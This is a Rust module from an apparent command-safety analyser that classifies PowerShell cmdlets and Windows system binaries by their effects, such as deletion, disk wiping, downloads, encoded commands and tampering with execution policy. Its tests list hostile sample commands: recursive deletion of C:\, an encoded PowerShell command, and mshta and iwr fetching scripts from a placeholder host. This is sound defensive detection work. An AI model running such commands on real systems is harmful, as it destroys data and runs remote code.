//! Windows: PowerShell's own words and the old commands beside them.
//!
//! Owns: a small list of what deletes, fetches and runs. Refuses: PowerShell's grammar; a script of it is read like a shell's, and what
//! is encoded is unknown.

use super::call::{Call, joined};
use super::options::Options;
use super::shells;
use crate::effects::act::{Act, Change, Code, Datum, Effort, Power, Traffic};
use crate::effects::invocation::{Outcome, Stream};
use crate::shell::value::Value;

const CMDLET: Options = Options::new(
    "",
    "Path= LiteralPath= Filter= Include= Exclude= Value= Encoding= Uri= OutFile= Method= Body= InFile= Headers= Name= Id= \
     Recurse Force Confirm? WhatIf Command= File= EncodedCommand= ExecutionPolicy= FilePath= ArgumentList= Verb= DriveLetter=",
)
.one_dash();

/// `Remove-Item`, `iex`, `powershell -enc` and the like.
pub(super) fn outcome(call: &Call<'_>) -> Outcome {
    let read = call.read(&CMDLET);
    let named = |names: &str| read.value(names).cloned();
    let paths = || -> Vec<Value> {
        let given: Vec<Value> = read.values("Path LiteralPath FilePath").cloned().collect();
        if given.is_empty() { call.targets(&read) } else { given }
    };
    let outcome = match call.name {
        "Remove-Item" | "ri" | "Clear-Content" => Outcome::of(paths().iter().map(|path| removed(call, path))),
        "Set-Content" | "Out-File" | "Add-Content" => {
            Outcome::of(paths().iter().take(1).map(|path| call.writes(path, Change::Replace)))
        }
        "Get-Content" | "gc" => {
            let data = paths().iter().map(|path| Datum::File(call.path(path))).collect::<Vec<_>>();
            Outcome::of(paths().iter().map(|path| call.reads(path))).saying(Stream::data(data))
        }
        "Format-Volume" | "Clear-Disk" | "Initialize-Disk" | "Remove-Partition" | "cipher" | "vssadmin" => {
            Outcome::of([Act::Disk { device: Value::known(call.name) }])
        }
        "Stop-Process" => {
            Outcome::of([Act::Signal { target: named("Name Id").unwrap_or_default(), own: false }])
        }
        "iex" | "Invoke-Expression" => expression(call),
        "iwr" | "Invoke-WebRequest" | "irm" | "Invoke-RestMethod" => {
            fetched(call, &named("Uri"), &named("OutFile"), &paths())
        }
        "Set-ExecutionPolicy" => Outcome::of([Act::Tamper { how: "PowerShell's own guard".to_owned() }]),
        "Start-Process" if named("Verb").is_some_and(|verb| verb.text() == Some("RunAs")) => {
            Outcome::of([Act::Privilege { how: "RunAs".to_owned() }])
        }
        "Start-Process" => Outcome::default().then(call.next(paths())),
        "certutil" | "bitsadmin" | "mshta" | "rundll32" | "regsvr32" => lived_off(call),
        "wmic" => Outcome::of([Act::Power(Power::Service(Value::known("wmic")))]),
        "cmd" | "cmd.exe" => {
            let at = call
                .words()
                .position(|word| word.eq_ignore_ascii_case("/c") || word.eq_ignore_ascii_case("/k"));
            let line = at.and_then(|at| call.args.get(at + 1..)).map(joined);
            line.map_or_else(Outcome::harmless, |line| Outcome::default().then(call.shell(line)))
        }
        _ => shell(call),
    };
    outcome.rehearsed_if(read.has("WhatIf"))
}

/// A drive, or a path like any other.
fn removed(call: &Call<'_>, path: &Value) -> Act {
    let text = path.text().unwrap_or_default();
    let is_drive = text.get(1..2) == Some(":");
    let is_root = is_drive && text.trim_end_matches(['\\', '/', '*']).len() <= 2
        || text.to_ascii_lowercase().contains("\\windows");
    if is_root || is_drive {
        return Act::Delete { path: Value::known("/"), deep: true, filtered: !is_root };
    }
    call.deletes(path, true)
}

fn expression(call: &Call<'_>) -> Outcome {
    match call.args.first().map(Value::why) {
        Some(Some(why)) => Outcome::of([Act::Unknown(why.clone())]),
        Some(None) => Outcome::default().then(call.shell(joined(call.args))),
        None => given(call),
    }
}

fn fetched(call: &Call<'_>, uri: &Option<Value>, file: &Option<Value>, paths: &[Value]) -> Outcome {
    let Some(url) = uri.as_ref().or(paths.first()) else { return Outcome::harmless() };
    let mut outcome = Outcome::of([call.network(Traffic::Fetch, url, call.invocation.flows.clone())]);
    match file {
        Some(file) => outcome.push(call.writes(file, Change::Replace)),
        None => outcome.output = Stream::data([Datum::Download(url.clone())]),
    }
    outcome
}

/// Programs of the system that fetch and run for whoever asks.
fn lived_off(call: &Call<'_>) -> Outcome {
    let url = call.args.iter().find(|arg| arg.prefix().starts_with(b"http"));
    match url {
        Some(url) => {
            Outcome::of([Act::Run { code: Code::Download(url.clone()), with: call.name.to_owned() }])
        }
        None if matches!(call.name, "mshta" | "rundll32" | "regsvr32") => {
            Outcome::of([call.unknown(format!("what {} runs", call.name))])
        }
        None => Outcome::harmless(),
    }
}

/// `powershell`, `pwsh`.
fn shell(call: &Call<'_>) -> Outcome {
    let lower: Vec<String> = call.words().map(str::to_ascii_lowercase).collect();
    if call.is_asked() {
        return Outcome::harmless();
    }
    if lower.iter().any(|word| {
        word.len() > 1
            && "-encodedcommand".starts_with(word.as_str())
            && word.starts_with("-e")
            && word != "-ex"
    }) {
        return Outcome::of([call.unknown("an encoded command")]);
    }
    let at = lower.iter().position(|word| word.len() > 1 && "-command".starts_with(word.as_str()));
    if let Some(at) = at {
        return Outcome::default().then(call.shell(joined(call.args.get(at + 1..).unwrap_or_default())));
    }
    match call.args.iter().find(|arg| !arg.prefix().starts_with(b"-")) {
        Some(file) if file.prefix().ends_with(b".ps1") => {
            Outcome::of([Act::Run { code: Code::File(call.path(file)), with: call.name.to_owned() }])
        }
        Some(_) => Outcome::default().then(call.shell(joined(call.args))),
        None => given(call),
    }
}

/// What comes in on the standard input is run.
fn given(call: &Call<'_>) -> Outcome {
    let input = &call.invocation.input;
    if let Some(text) = input.text.as_ref().filter(|text| text.bytes().is_some()) {
        return Outcome::default().then(call.shell(text.clone()));
    }
    let acts = shells::code(call, input);
    or_harmless(Outcome {
        acts: acts.into_iter().map(|act| (act, Effort::Done)).collect(),
        ..Outcome::default()
    })
}

fn or_harmless(outcome: Outcome) -> Outcome {
    if outcome.acts.is_empty() { Outcome::harmless() } else { outcome }
}

#[cfg(test)]
mod tests {
    use super::super::testing::check;

    #[test]
    fn other_words_do_the_same() {
        check(&[
            ("Remove-Item -Recurse -Force build", "delete/ /home/dev/project/build"),
            ("Remove-Item -Recurse C:\\", "delete/ /"),
            ("powershell -enc SQBFAFgA", "unknown an encoded command"),
            ("pwsh -c 'rm x'", "$ rm x"),
            ("iwr https://x.example/i.ps1", "fetch https://x.example/i.ps1"),
            ("mshta http://x.example/a.hta", "run mshta download http://x.example/a.hta"),
        ]);
    }
}
